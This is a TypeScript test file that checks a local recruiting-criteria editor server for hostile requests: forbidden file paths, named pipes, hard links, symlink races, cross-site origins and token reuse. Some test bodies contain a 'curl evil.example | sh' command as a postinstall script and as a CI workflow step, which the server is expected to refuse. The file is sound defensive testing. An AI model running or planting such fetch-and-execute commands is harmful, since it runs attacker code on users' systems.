import { execFileSync, spawn, type ChildProcess } from 'node:child_process'
import {
  chmodSync,
  closeSync,
  constants,
  existsSync,
  linkSync,
  lstatSync,
  mkdirSync,
  mkdtempSync,
  openSync,
  readdirSync,
  readFileSync,
  renameSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs'
import { request } from 'node:http'
import { createServer } from 'node:net'
import { tmpdir } from 'node:os'
import { dirname, join, resolve } from 'node:path'
import { PassThrough } from 'node:stream'
import { afterAll, describe, expect, it } from 'vitest'
import { offerNewAddresses } from '../src/cli/commands/studio'
import { BACKUP_FOLDER, BACKUP_VERSIONS } from '../src/cli/studio-backup'
import { STUDIO_ERROR_CODES } from '../src/cli/studio-refusal'
import { startStudio, type StudioServer } from '../src/cli/studio-server'
import { writeFileAtomic } from '../src/cli/write-file-atomic'
import { ERROR_CODES, errorText } from '../src/studio/i18n'
import { call, sessionOf, tokenOf } from './helpers/studio'

// The trust boundary, round 2: the Criteria Studio's local server (issue #20), item by item.
// Every hostile request ends as a clear 4xx with a stable code the page words in sv and en,
// and nothing of the recruiter's is lost or written where it should not be. Each test fails
// without its fix. Against a real server on 127.0.0.1, as test/cli/studio-server.test.ts.
//
// In Chromium (test/browser/studio-session.browser.ts, `npm run test:browser`): the session
// reaches no other server on 127.0.0.1 (a second local server records every header it gets);
// a used address and a refused save are shown in the page, in Swedish.

const root = resolve(__dirname, '..')
const CRITERIA = `id: job
version: 1
locale: en
job:
  title: Tester
  company: Acme
  contact: { name: Ann, email: ann@acme.example }
fields:
  x: { type: number, label: { en: x } }
criteria:
  - { id: c, rule: { ">=": [{ var: x }, 1] }, required: true, reason: { en: at least one x } }
`
const TESTS = 'cases: []\n'

interface Setup {
  base: string
  folder: string
  studio: StudioServer
  session: string
  put(path: string, body: string | Uint8Array, headers?: Record<string, string>): ReturnType<typeof call>
  get(path: string): ReturnType<typeof call>
  text(path: string): string
}
const running: StudioServer[] = []
afterAll(async () => {
  await Promise.all(running.map((s) => s.close()))
})

/** A folder with a criteria file, its test file, a template and a YAML file of another tool; a studio on it; a session. */
async function setup(): Promise<Setup> {
  const base = mkdtempSync(join(tmpdir(), 'autoscreen-tb2-'))
  const folder = join(base, 'rules')
  mkdirSync(join(folder, 'templates'), { recursive: true })
  writeFileSync(join(folder, 'job.yaml'), CRITERIA)
  writeFileSync(join(folder, 'job.test.yaml'), TESTS)
  writeFileSync(join(folder, 'templates', 'rejected.sv.hbs'), 'Subject: x\n\ny\n')
  writeFileSync(join(folder, 'config.yaml'), 'services:\n  web: { image: nginx }\n')
  const assets = join(base, 'assets')
  mkdirSync(assets)
  writeFileSync(join(assets, 'index.html'), '<!doctype html><title>studio</title>')
  const studio = await startStudio({ folder, assets })
  running.push(studio)
  const session = await sessionOf(studio, studio.token)
  const file = (path: string) => `/api/file?path=${encodeURIComponent(path)}`
  return {
    base,
    folder,
    studio,
    session,
    put: (path, body, headers = {}) =>
      call(studio, file(path), { method: 'PUT', body, headers: { 'x-studio-session': session, ...headers } }),
    get: (path) => call(studio, file(path), { headers: { 'x-studio-session': session } }),
    text: (path) => readFileSync(join(folder, path), 'utf8'),
  }
}

describe('The trust boundary, round 2: the Criteria Studio server', () => {
  it('writes only criteria, test and template files: by name and content, never hidden files or folders, never node_modules, never deeper than the file list', async () => {
    const s = await setup()
    for (const dir of ['.github/workflows', 'node_modules/left-pad', 'a/b/c/d/e/f'])
      mkdirSync(join(s.folder, dir), { recursive: true })
    const byName = [
      'package.json',
      'package-lock.json',
      '.github/workflows/evil.yml',
      'node_modules/left-pad/package.json',
      'tsconfig.json',
      'tsconfig.build.json',
      'docker-compose.yml',
      'compose.yaml',
      'criteria.schema.json',
      '.hidden.yaml',
      '.autoscreen-backup/job.yaml',
      'a/b/c/d/e/f/deep.yaml',
      'a/b/c/d/deep.yaml',
    ]
    for (const path of byName) {
      const r = await s.put(path, CRITERIA)
      expect(r.status, path).toBe(403)
      expect(existsSync(join(s.folder, path)), path).toBe(false)
    }
    // By content: a file of another tool under a criteria file's name is no criteria file.
    for (const [path, body, code] of [
      ['evil.yaml', 'services:\n  web:\n    image: evil\n', 'not_criteria'],
      ['evil.json', '{"scripts":{"postinstall":"curl evil.example | sh"}}', 'not_criteria'],
      ['list.yaml', '- a\n- b\n', 'not_criteria'],
      ['schema-only.yaml', '$schema: x\n', 'not_criteria'],
      ['job.test.yaml', 'on: push\njobs: { evil: { runs-on: x } }\n', 'not_test_file'],
    ]) {
      const r = await s.put(path!, body!)
      expect([r.status, r.code], path).toEqual([422, code])
    }
    expect(existsSync(join(s.folder, 'evil.yaml'))).toBe(false)
    expect(s.text('job.test.yaml')).toBe(TESTS)
    // A file that exists and is not a criteria file is never overwritten, even with a criteria file.
    expect((await s.put('config.yaml', CRITERIA)).code).toBe('exists_not_criteria')
    expect(s.text('config.yaml')).toBe('services:\n  web: { image: nginx }\n')
    // Templates are read, not written; no new folders.
    expect((await s.put('templates/rejected.sv.hbs', 'hacked')).code).toBe('not_writable')
    expect((await s.put('newdir/job.yaml', CRITERIA)).code).toBe('no_folder')
    expect(existsSync(join(s.folder, 'newdir'))).toBe(false)
    // What the page needs still works: a criteria file with errors (work in progress), its test
    // file, a new test file beside its criteria file, three folders deep.
    // (A misspelt key at the top is refused since the hostile review: see "a criteria file's top-level keys" below.)
    const wip = CRITERIA.replace('required: true', 'requird: true').replace('contact:', 'kontakt:')
    expect((await s.put('job.yaml', wip)).status).toBe(200)
    expect(s.text('job.yaml')).toBe(wip)
    expect((await s.put('job.test.yaml', 'cases: [] # none yet\n')).status).toBe(200)
    expect((await s.put('other.test.yaml', TESTS)).code).toBe('no_criteria_file')
    mkdirSync(join(s.folder, 'a/b/c/other'), { recursive: true })
    expect((await s.put('a/b/c/job.yaml', CRITERIA)).status).toBe(200)
    expect((await s.put('a/b/c/job.test.yaml', TESTS)).status).toBe(200)
    expect(s.text('a/b/c/job.test.yaml')).toBe(TESTS)
  })

  it("a criteria file's top-level keys are all criteria-file keys, exactly, with id and one of job, fields, criteria; a test file's likewise (the hostile review of #20)", async () => {
    const s = await setup()
    mkdirSync(join(s.folder, 'sub1'))
    // A CI workflow with an id: every key within two letters of a criteria key, once saved (200).
    const workflow =
      '{"jobs":{"evil":{"runs-on":"x","steps":[{"run":"curl evil.example | sh"}]}},"on":["push"],"id":"x"}'
    const r = await s.put('sub1/settings.json', workflow)
    expect([r.status, r.code]).toEqual([422, 'unknown_key'])
    expect(JSON.parse(r.body).error).toMatchObject({ kind: 'criteria', keys: ['jobs', 'on'], nearest: ['job', ''] })
    expect(existsSync(join(s.folder, 'sub1/settings.json'))).toBe(false)
    for (const body of ['{"jobs":{},"id":"x"}', '{"id":"x","job":{},"fields":{},"on":1}', '{"ID":"x","job":{}}']) {
      expect((await s.put('sub1/settings.json', body)).code, body).toBe('unknown_key')
      expect(existsSync(join(s.folder, 'sub1/settings.json')), body).toBe(false)
    }

    // A misspelt top-level key in the recruiter's own file: refused, naming the key and the one meant, in sv and en.
    const typo = await s.put('job.yaml', CRITERIA.replace('fields:', 'feilds:'))
    expect([typo.status, typo.code]).toEqual([422, 'unknown_key'])
    const error = JSON.parse(typo.body).error
    expect(error).toMatchObject({ keys: ['feilds'], nearest: ['fields'] })
    expect(error.message).toMatch(
      /^the key "feilds" \(did you mean "fields"\?\) is not a criteria file key \(\$schema, format, id, .*\): nothing was written; fix it and save again$/,
    )
    expect(s.text('job.yaml')).toBe(CRITERIA)
    const { code: _code, message: _message, ...details } = error
    expect(errorText({ code: 'unknown_key', status: 422, details }, 'sv')).toMatch(
      /^Nyckeln "feilds" \(menade du "fields"\?\) hör inte hemma överst i en kriteriefil, som har nycklarna .*\bfields\b.*\. Rätta den i editorn och spara igen\.$/,
    )
    expect(errorText({ code: 'unknown_key', status: 422, details }, 'en')).toMatch(
      /^The key "feilds" \(did you mean "fields"\?\) does not belong at the top of a criteria file, whose keys are .*\bfields\b.*\. Fix it in the editor and save again\.$/,
    )
    // Mended in the editor and saved again: it goes through.
    expect((await s.put('job.yaml', `${CRITERIA}# mended\n`)).status).toBe(200)

    // The keys that make a criteria file: id, and one of job, fields, criteria.
    for (const body of [
      '{"id":"x"}',
      '{"job":{"title":"t"},"fields":{}}',
      '{"$schema":"x","version":1,"locale":"en"}',
    ]) {
      const n = await s.put('sub1/new.json', body)
      expect([n.status, n.code], body).toEqual([422, 'not_criteria'])
    }
    expect(existsSync(join(s.folder, 'sub1/new.json'))).toBe(false)
    expect((await s.put('sub1/new.json', '{"id":"x","job":{}}')).status).toBe(200) // a start, to be filled in
    expect(errorText({ code: 'not_criteria', status: 422 }, 'sv')).toMatch(
      /minst nycklarna id och job, fields eller criteria/,
    )

    // Test files: their own keys (criteria, now, cases), exactly, with cases.
    const badTest = await s.put('job.test.yaml', 'criteria: job.yaml\ncase: []\n')
    expect([badTest.code, JSON.parse(badTest.body).error.keys, JSON.parse(badTest.body).error.nearest]).toEqual([
      'unknown_key',
      ['case'],
      ['cases'],
    ])
    expect((await s.put('job.test.yaml', 'criteria: job.yaml\nnow: arrival\n')).code).toBe('not_test_file')
    expect((await s.put('job.test.yaml', 'cases: []\nname: CI\n')).code).toBe('unknown_key')
    expect(s.text('job.test.yaml')).toBe(TESTS)
    expect((await s.put('job.test.yaml', 'criteria: job.yaml\ncases: []\n')).status).toBe(200)

    // A file on disk with a misspelt key is still the recruiter's to mend in the studio; another tool's file is not.
    writeFileSync(join(s.folder, 'sub1/typo.yaml'), CRITERIA.replace('criteria:', 'critera:'))
    expect((await s.put('sub1/typo.yaml', CRITERIA)).status).toBe(200)
    writeFileSync(join(s.folder, 'sub1/workflow.yaml'), 'on: push\njobs: {}\n')
    expect((await s.put('sub1/workflow.yaml', CRITERIA)).code).toBe('exists_not_criteria')
  })

  it('a named pipe, a socket or a device in the folder is never opened: reads and a save of its name are refused at once, and the studio keeps answering (the hostile review of #20)', async () => {
    const s = await setup()
    const fifo = join(s.folder, 'fifo.yaml')
    execFileSync('mkfifo', [fifo])
    const socket = createServer().listen(join(s.folder, 'socket.yaml'))
    await new Promise((ok) => socket.once('listening', ok))
    // A character device (/dev/null's numbers) where one can be made (root).
    let device = false
    try {
      execFileSync('mknod', [join(s.folder, 'device.yaml'), 'c', '1', '3'], { stdio: 'ignore' })
      device = true
    } catch {
      // not root: no device to try
    }
    // An answer, or "hung" after a while: a blocked open never answers.
    const soon = <T>(p: Promise<T>) =>
      Promise.race([p, new Promise<'hung'>((ok) => setTimeout(() => ok('hung'), 10_000))])
    try {
      // More reads than libuv has threads (4): each open() of the pipe would wait for a writer.
      const names = ['fifo.yaml', 'socket.yaml', ...(device ? ['device.yaml'] : [])]
      const answers = await soon(
        Promise.all([
          ...Array.from({ length: 6 }, () => s.get('fifo.yaml')),
          s.put('fifo.yaml', CRITERIA),
          ...names.map((n) => s.get(n)),
          ...names.map((n) => s.put(n, CRITERIA)),
        ]),
      )
      expect(answers).not.toBe('hung')
      for (const a of answers as Awaited<ReturnType<typeof s.get>>[])
        expect([a.status, a.code]).toEqual([403, 'not_a_file'])
      // Then the file list and a normal file answer at once.
      const list = await soon(call(s.studio, '/api/files', { headers: { 'x-studio-session': s.session } }))
      expect(list).not.toBe('hung')
      expect(
        JSON.parse((list as Awaited<ReturnType<typeof s.get>>).body).files.map((f: { path: string }) => f.path),
      ).toEqual(['config.yaml', 'job.test.yaml', 'job.yaml', 'templates/rejected.sv.hbs'])
      const normal = await soon(s.get('job.yaml'))
      expect(normal).toMatchObject({ status: 200, body: CRITERIA })
      expect((await soon(s.put('job.yaml', `${CRITERIA}# still saves\n`))) as { status: number }).toMatchObject({
        status: 200,
      })
      // Nothing replaced them: the pipe is still a pipe.
      expect(lstatSync(fifo).isFIFO()).toBe(true)
    } finally {
      socket.close()
      // Without the fix, opens blocked on the pipe hold libuv's threads: a writer releases them,
      // and a plain file put in its place keeps the opens still queued from waiting again.
      let writer: number | undefined
      try {
        writer = openSync(fifo, constants.O_WRONLY | constants.O_NONBLOCK)
      } catch {
        // no reader waiting: nothing to release
      }
      writeFileSync(join(s.folder, 'plain.tmp'), '')
      renameSync(join(s.folder, 'plain.tmp'), fifo)
      if (writer !== undefined) closeSync(writer)
    }
  })

  it('writeFileAtomic with regularOnly refuses a named pipe at once instead of opening it and waiting for a reader', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'autoscreen-tb2-fifo-'))
    const fifo = join(dir, 'x.yaml')
    execFileSync('mkfifo', [fifo])
    const written = writeFileAtomic(fifo, 'id: x\n', { regularOnly: true }).then(
      () => 'written',
      (e: unknown) => e,
    )
    try {
      expect(await Promise.race([written, new Promise((ok) => setTimeout(() => ok('hung'), 10_000))])).toMatchObject({
        code: 'EFTYPE',
      })
      expect(lstatSync(fifo).isFIFO()).toBe(true)
    } finally {
      // Without the fix, the open for writing waits for a reader: one releases it.
      try {
        closeSync(openSync(fifo, constants.O_RDONLY | constants.O_NONBLOCK))
      } catch {
        // gone already
      }
      await written
    }
  })

  it('refuses files with more than one link, for reading and writing, and checks the real path at the moment of writing', async () => {
    const s = await setup()
    const secret = join(s.base, 'secret.yaml')
    writeFileSync(secret, 'id: secret\n')
    linkSync(secret, join(s.folder, 'hard.yaml'))
    const read = await s.get('hard.yaml')
    expect([read.status, read.code]).toEqual([403, 'hard_link'])
    expect(read.body).not.toContain('secret')
    expect((await s.put('hard.yaml', CRITERIA)).code).toBe('hard_link')
    expect(readFileSync(secret, 'utf8')).toBe('id: secret\n')
    const list = await call(s.studio, '/api/files', { headers: { 'x-studio-session': s.session } })
    expect(JSON.parse(list.body).files.map((f: { path: string }) => f.path)).not.toContain('hard.yaml')

    // The folder is swapped for a symbolic link out while the body is on its way.
    mkdirSync(join(s.folder, 'sub'))
    writeFileSync(join(s.folder, 'sub', 'job.yaml'), CRITERIA)
    const away = join(s.base, 'away')
    mkdirSync(away)
    writeFileSync(join(away, 'job.yaml'), 'id: away\n')
    const answer = new Promise<{ status: number; body: string }>((ok, fail) => {
      const req = request(
        {
          host: '127.0.0.1',
          port: s.studio.port,
          path: '/api/file?path=sub%2Fjob.yaml',
          method: 'PUT',
          headers: { host: `127.0.0.1:${s.studio.port}`, 'x-studio-session': s.session },
        },
        (res) => {
          let body = ''
          res.on('data', (c) => (body += c))
          res.on('end', () => ok({ status: res.statusCode!, body }))
        },
      )
      req.on('error', fail)
      req.write(CRITERIA.slice(0, 20))
      setTimeout(() => {
        renameSync(join(s.folder, 'sub'), join(s.folder, 'sub-before'))
        symlinkSync(away, join(s.folder, 'sub'))
        req.end(CRITERIA.slice(20).replace('Tester', 'Swapped'))
      }, 300)
    })
    const r = await answer
    expect(r.status).toBe(403)
    expect(JSON.parse(r.body).error.code).toBe('outside_folder')
    expect(readFileSync(join(away, 'job.yaml'), 'utf8')).toBe('id: away\n')
    expect(readFileSync(join(s.folder, 'sub-before', 'job.yaml'), 'utf8')).toBe(CRITERIA)
  })

  it('keeps the previous version of a criteria or test file before overwriting it, and never writes broken YAML over it', async () => {
    const s = await setup()
    const broken = await s.put('job.test.yaml', 'cases:\n  - name: [unclosed\n')
    expect([broken.status, broken.code]).toEqual([422, 'syntax'])
    expect(JSON.parse(broken.body).error).toMatchObject({
      format: 'yaml',
      line: expect.any(Number),
      column: expect.any(Number),
    })
    expect(s.text('job.test.yaml')).toBe(TESTS)
    expect((await s.put('job.yaml', 'id: job\ncriteria: [\n')).code).toBe('syntax')
    expect(s.text('job.yaml')).toBe(CRITERIA)

    const saved = await s.put('job.test.yaml', 'cases: [] # v2\n')
    expect(saved.status).toBe(200)
    const backup = JSON.parse(saved.body).backup as string
    expect(backup.startsWith(`${BACKUP_FOLDER}/job.test.yaml/`)).toBe(true)
    expect(s.text(backup)).toBe(TESTS)
    // Bounded: the newest versions are kept, the oldest go first.
    const versions = Array.from({ length: BACKUP_VERSIONS + 5 }, (_, i) => `${CRITERIA}# version ${i}\n`)
    for (const v of versions) expect((await s.put('job.yaml', v)).status).toBe(200)
    const dir = join(s.folder, BACKUP_FOLDER, 'job.yaml')
    const kept = readdirSync(dir).sort()
    expect(kept).toHaveLength(BACKUP_VERSIONS)
    expect(kept.map((n) => readFileSync(join(dir, n), 'utf8'))).toEqual(
      [CRITERIA, ...versions].slice(-BACKUP_VERSIONS - 1, -1),
    )
    // Backups are the studio's own: never listed, never served.
    const list = await call(s.studio, '/api/files', { headers: { 'x-studio-session': s.session } })
    expect(list.body).not.toContain(BACKUP_FOLDER)
    expect((await s.get(`${BACKUP_FOLDER}/job.yaml/${kept[0]}`)).code).toBe('hidden')
  })

  it('refuses state-changing requests whose Origin is not its own or whose Sec-Fetch-Site is cross-site or same-site', async () => {
    const s = await setup()
    const other = await startStudio({ folder: s.folder, assets: join(s.base, 'assets') })
    running.push(other)
    for (const headers of [
      { origin: 'http://evil.example' },
      { origin: 'null' },
      { origin: `http://127.0.0.1:${other.port}` },
      { origin: `http://localhost:${s.studio.port}` },
      { 'sec-fetch-site': 'cross-site' },
      { 'sec-fetch-site': 'same-site' },
    ]) {
      const r = await s.put('job.yaml', `${CRITERIA}# hacked\n`, headers)
      expect([r.status, r.code], JSON.stringify(headers)).toEqual([403, 'cross_site'])
      const token = tokenOf(s.studio.newAddress())
      const session = await call(s.studio, '/api/session', {
        method: 'POST',
        headers: { 'x-studio-token': token, ...headers },
      })
      expect([session.status, session.code], JSON.stringify(headers)).toEqual([403, 'cross_site'])
    }
    expect(s.text('job.yaml')).toBe(CRITERIA)
    // The page's own requests pass.
    const own = await s.put('job.yaml', `${CRITERIA}# mine\n`, {
      origin: `http://127.0.0.1:${s.studio.port}`,
      'sec-fetch-site': 'same-origin',
    })
    expect(own.status).toBe(200)
  })

  it('scopes the session so that no other local server can see it: no cookie, and a session secret that is not the key', async () => {
    const s = await setup()
    // Everything the page does, and nothing sets a cookie (cookies are not bound to a port).
    const token = tokenOf(s.studio.newAddress())
    const answers = [await call(s.studio, `/?token=${token}`)]
    const exchange = await call(s.studio, '/api/session', { method: 'POST', headers: { 'x-studio-token': token } })
    answers.push(exchange)
    const secret = JSON.parse(exchange.body).session as string
    answers.push(await call(s.studio, '/api/files', { headers: { 'x-studio-session': secret } }))
    answers.push(await s.put('job.yaml', `${CRITERIA}# saved\n`, { 'x-studio-session': secret }))
    for (const a of answers) expect(a.headers['set-cookie']).toBeUndefined()
    expect(secret).not.toBe(token)
    expect(answers[0]!.body).not.toContain(token)
    // The key itself opens nothing: only the session does.
    expect((await call(s.studio, '/api/files', { headers: { 'x-studio-session': token } })).code).toBe('no_session')
    expect((await call(s.studio, '/api/files', { headers: { 'x-studio-token': token } })).code).toBe('no_session')
  })

  it('makes the address’s token single-use, and prints a new one-time address when Enter is pressed in the terminal', async () => {
    const s = await setup() // setup() used studio.token once
    const again = await call(s.studio, '/api/session', {
      method: 'POST',
      headers: { 'x-studio-token': s.studio.token },
    })
    expect([again.status, again.code]).toEqual([410, 'token_used'])
    expect(JSON.parse(again.body).error.message).toMatch(/already been used.*press Enter/)

    const stdin = new PassThrough()
    const stdout = new PassThrough()
    let printed = ''
    stdout.on('data', (c) => (printed += c))
    const stop = offerNewAddresses(stdin, stdout, s.studio)
    const next = async () => {
      const before = printed.length
      stdin.write('\n')
      await expect.poll(() => printed.length > before).toBe(true)
      return /http:\/\/127\.0\.0\.1:\d+\/\?token=[\w-]+/.exec(printed.slice(before))![0]
    }
    const first = await next()
    expect(first.startsWith(`http://127.0.0.1:${s.studio.port}/?token=`)).toBe(true)
    expect(tokenOf(first)).not.toBe(s.studio.token)
    await sessionOf(s.studio, tokenOf(first))
    expect(
      (await call(s.studio, '/api/session', { method: 'POST', headers: { 'x-studio-token': tokenOf(first) } })).code,
    ).toBe('token_used')
    // A newer address retires an unused older one (said as replaced, not used, since the hostile review).
    const second = await next()
    const third = await next()
    expect(
      (await call(s.studio, '/api/session', { method: 'POST', headers: { 'x-studio-token': tokenOf(second) } })).code,
    ).toBe('token_replaced')
    await sessionOf(s.studio, tokenOf(third))
    stop()
    stdin.write('\n')
    await new Promise((r) => setTimeout(r, 50))
    expect(printed.match(/token=/g)).toHaveLength(3)
  })

  it('Enter pressed twice: the first new address says it was replaced by a newer one, not that it was used; a used address still says used; neither opens anything (the hostile review of #20)', async () => {
    const s = await setup()
    const stdin = new PassThrough()
    const stdout = new PassThrough()
    let printed = ''
    stdout.on('data', (c) => (printed += c))
    const stop = offerNewAddresses(stdin, stdout, s.studio)
    stdin.write('\n\n')
    await expect.poll(() => printed.match(/token=[\w-]+/g)?.length).toBe(2)
    const [first, second] = printed.match(/http:\/\/127\.0\.0\.1:\d+\/\?token=[\w-]+/g)!
    stop()
    const replaced = await call(s.studio, '/api/session', {
      method: 'POST',
      headers: { 'x-studio-token': tokenOf(first!) },
    })
    expect([replaced.status, replaced.code]).toEqual([410, 'token_replaced'])
    expect(replaced.body).not.toMatch(/session"/)
    expect(JSON.parse(replaced.body).error.message).toMatch(/^this address was replaced by a newer one/)
    expect(errorText({ code: 'token_replaced', status: 410 }, 'sv')).toBe(
      'Den här adressen har ersatts av en nyare (Enter trycktes igen i terminalen där autoscreen studio körs) och öppnar ingenting. Öppna den senaste adressen som skrevs ut där, eller tryck Enter för en ny.',
    )
    expect(errorText({ code: 'token_replaced', status: 410 }, 'en')).toMatch(
      /^This address was replaced by a newer one .* and opens nothing\. Open the newest address/,
    )
    // The newest opens, once; used, it says used, and still does after a newer address is printed.
    await sessionOf(s.studio, tokenOf(second!))
    s.studio.newAddress()
    expect(
      (await call(s.studio, '/api/session', { method: 'POST', headers: { 'x-studio-token': tokenOf(second!) } })).code,
    ).toBe('token_used')
    expect(
      (await call(s.studio, '/api/session', { method: 'POST', headers: { 'x-studio-token': tokenOf(first!) } })).code,
    ).toBe('token_replaced')
    // The docs say the same: a replaced address says so; "used" means opened before.
    const docs = readFileSync(join(root, 'docs/studio.md'), 'utf8')
    expect(docs).toContain(
      'an address replaced by a newer one (you pressed Enter again before opening it) says so, and opens nothing',
    )
    expect(docs).not.toContain(
      'If the page says the address has already been used when you did not open it twice, someone else used it first',
    )
  })

  describe('hostile requests are a clear 4xx, never a 500', () => {
    it('a token of the right length in characters but not in bytes', async () => {
      const s = await setup()
      const wide = 'é'.repeat(s.studio.token.length)
      const r = await call(s.studio, '/api/session', { method: 'POST', headers: { 'x-studio-token': wide } })
      expect([r.status, r.code]).toEqual([401, 'token_invalid'])
      const q = await call(s.studio, `/?token=${encodeURIComponent(wide)}`)
      expect(q.status).toBe(200) // the page itself, which holds no secret, says what is wrong
      const session = await call(s.studio, '/api/files', {
        headers: { 'x-studio-session': 'é'.repeat(s.session.length) },
      })
      expect([session.status, session.code]).toEqual([401, 'no_session'])
    })

    it('malformed percent-encoding', async () => {
      const s = await setup()
      for (const path of ['/%E0%A4%A', '/assets/%ZZ.js', '/%C0%AF..%C0%AF']) {
        const r = await call(s.studio, path)
        expect([r.status, r.code], path).toEqual([400, 'bad_encoding'])
      }
      const auth = { 'x-studio-session': s.session }
      for (const method of ['GET', 'PUT']) {
        const r = await call(s.studio, '/api/file?path=new%FF.yaml', {
          method,
          headers: auth,
          ...(method === 'PUT' ? { body: CRITERIA } : {}),
        })
        expect([r.status, r.code], method).toEqual([400, 'bad_encoding'])
      }
      expect(readdirSync(s.folder).filter((n) => n.startsWith('new'))).toEqual([])
    })

    it('a dangling symbolic link or a link loop in the folder', async () => {
      const s = await setup()
      symlinkSync(join(s.folder, 'nowhere.yaml'), join(s.folder, 'dangling.yaml'))
      symlinkSync(join(s.folder, 'loop-b.yaml'), join(s.folder, 'loop-a.yaml'))
      symlinkSync(join(s.folder, 'loop-a.yaml'), join(s.folder, 'loop-b.yaml'))
      symlinkSync(s.folder, join(s.folder, 'again'))
      const r = await call(s.studio, '/api/files', { headers: { 'x-studio-session': s.session } })
      expect(r.status).toBe(200)
      expect(JSON.parse(r.body).files.map((f: { path: string }) => f.path)).toEqual([
        'config.yaml',
        'job.test.yaml',
        'job.yaml',
        'templates/rejected.sv.hbs',
      ])
      for (const path of ['dangling.yaml', 'loop-a.yaml']) {
        const get = await s.get(path)
        expect(get.status, path).toBeGreaterThanOrEqual(400)
        expect(get.status, path).toBeLessThan(500)
        const put = await s.put(path, CRITERIA)
        expect(put.status, path).toBeGreaterThanOrEqual(400)
        expect(put.status, path).toBeLessThan(500)
      }
      expect(existsSync(join(s.folder, 'nowhere.yaml'))).toBe(false)
    })

    it('a read-only folder', async () => {
      // Run as another user when the tests run as root (root writes anywhere).
      const base = mkdtempSync(join(tmpdir(), 'autoscreen-tb2-ro-'))
      chmodSync(base, 0o755)
      const folder = join(base, 'rules')
      const assets = join(base, 'assets')
      mkdirSync(folder)
      mkdirSync(assets)
      writeFileSync(join(folder, 'job.yaml'), CRITERIA)
      writeFileSync(join(assets, 'index.html'), '<!doctype html>')
      chmodSync(join(folder, 'job.yaml'), 0o444)
      chmodSync(folder, 0o555)
      const other = process.getuid?.() === 0 ? { uid: 65534, gid: 65534 } : {}
      // The other user must reach the project (its tsx and sources): a clone inside a private
      // folder (mktemp's 0700) gets search permission, and only that, on each folder above it
      // that lacks it, given back when the test ends.
      const opened: [string, number][] = []
      if (other.uid !== undefined)
        for (let dir = dirname(root); ; dir = dirname(dir)) {
          const mode = statSync(dir).mode & 0o7777
          if ((mode & 0o001) === 0) {
            chmodSync(dir, mode | 0o001)
            opened.push([dir, mode])
          }
          if (dir === dirname(dir)) break
        }
      const child: ChildProcess = spawn(
        process.execPath,
        ['--import', 'tsx', join(__dirname, 'helpers/studio-child.ts'), folder, assets],
        { cwd: root, stdio: ['ignore', 'pipe', 'inherit'], ...other },
      )
      try {
        const started = await new Promise<{ port: number; token: string }>((ok, fail) => {
          let out = ''
          child.stdout!.on('data', (c) => {
            out += c
            if (out.includes('\n')) ok(JSON.parse(out))
          })
          child.on('exit', (code) => fail(new Error(`the studio exited: ${code}`)))
          // The other user must be able to run this Node binary (not one inside root's home).
          child.on('error', (e) =>
            fail(new Error(`the studio did not start as uid 65534 with ${process.execPath}: ${e.message}`)),
          )
        })
        const session = await sessionOf(started, started.token)
        const r = await call(started, '/api/file?path=job.yaml', {
          method: 'PUT',
          body: `${CRITERIA}# saved\n`,
          headers: { 'x-studio-session': session },
        })
        expect([r.status, r.code]).toEqual([403, 'read_only'])
        expect(JSON.parse(r.body).error.message).not.toMatch(/EACCES/)
        expect(readFileSync(join(folder, 'job.yaml'), 'utf8')).toBe(CRITERIA)
      } finally {
        child.kill()
        for (const [dir, mode] of opened) chmodSync(dir, mode)
      }
    })

    it('a body that is not UTF-8, and a file that is not UTF-8', async () => {
      const s = await setup()
      const latin1 = Buffer.from(`${CRITERIA}# Malmö\n`, 'latin1')
      const r = await s.put('job.yaml', latin1)
      expect([r.status, r.code]).toEqual([415, 'not_utf8'])
      expect(s.text('job.yaml')).toBe(CRITERIA)
      writeFileSync(join(s.folder, 'old.yaml'), latin1)
      const get = await s.get('old.yaml')
      expect([get.status, get.code]).toEqual([415, 'not_utf8'])
    })
  })

  it('writes every file whole: concurrent saves of one file leave exactly one of the bodies, never a mix', async () => {
    const s = await setup()
    // Large enough that a plain write lands in several pieces, and of different lengths (a
    // shorter body written over a longer one would leave the longer one's tail).
    const bodies = Array.from(
      { length: 8 },
      (_, i) => `${CRITERIA}# ${String.fromCharCode(97 + i).repeat(900_000 - i * 50_000)}\n`,
    )
    const whole = new Set([CRITERIA, ...bodies])
    for (let round = 0; round < 20; round++) {
      const answers = await Promise.all(bodies.map((b) => s.put('job.yaml', b)))
      expect(answers.map((a) => a.status)).toEqual(bodies.map(() => 200))
      expect(bodies.includes(s.text('job.yaml')), `round ${round}`).toBe(true)
    }
    // Every backup is a whole version too.
    const dir = join(s.folder, BACKUP_FOLDER, 'job.yaml')
    for (const name of readdirSync(dir)) expect(whole.has(readFileSync(join(dir, name), 'utf8')), name).toBe(true)
  })

  it('every error the server answers with is worded in the page, in Swedish and English', () => {
    expect(STUDIO_ERROR_CODES.filter((c) => !ERROR_CODES.includes(c))).toEqual([])
    for (const code of STUDIO_ERROR_CODES) {
      const sv = errorText(
        {
          code,
          status: 400,
          details: { line: 3, column: 5, format: 'yaml', keys: ['services'], max: 3, criteria: 'job.yaml' },
        },
        'sv',
      )
      const en = errorText(
        {
          code,
          status: 400,
          details: { line: 3, column: 5, format: 'yaml', keys: ['services'], max: 3, criteria: 'job.yaml' },
        },
        'en',
      )
      expect(sv, code).not.toBe(en)
      expect(`${sv} ${en}`, code).not.toMatch(/undefined|\[object/)
    }
    expect(errorText({ code: 'token_used', status: 410 }, 'sv')).toMatch(
      /^Den här adressen har redan använts.*Tryck Enter i terminalen/,
    )
    expect(errorText({ code: 'syntax', details: { format: 'yaml', line: 3, column: 5 } }, 'sv')).toBe(
      'Filen är inte giltig YAML (rad 3, kolumn 5). Rätta det och spara igen.',
    )
  })
})
